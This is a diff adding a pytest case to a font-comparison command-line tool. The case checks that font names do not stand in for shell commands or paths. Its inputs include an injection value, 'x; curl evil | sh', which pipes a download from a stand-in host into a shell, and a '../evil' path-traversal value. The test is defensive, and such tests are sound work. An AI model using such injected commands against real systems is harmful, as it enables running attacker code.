@@ -43,3 +43,13 @@ def test_a_deck_has_its_own_font(cnnviz: Cnnviz) -> None:
     ran = cnnviz("compare", *DEJAVU, "--into", "deck.pptx")
     assert ran.status == 2
     assert "the deck has its own font" in ran.err
+
+
+@pytest.mark.parametrize(
+    ("font", "package"),
+    [("Source Serif 4", "fontpkg-source-serif-4"), ("x; curl evil | sh", ""), ("../evil", "")],
+)
+def test_what_is_no_name_stands_in_no_command(cnnviz: Cnnviz, font: str, package: str) -> None:
+    ran = cnnviz("compare", "--font", font, "-o", "x.svg")
+    assert ran.status == 0
+    assert ("pip install " + package in ran.err) is bool(package)
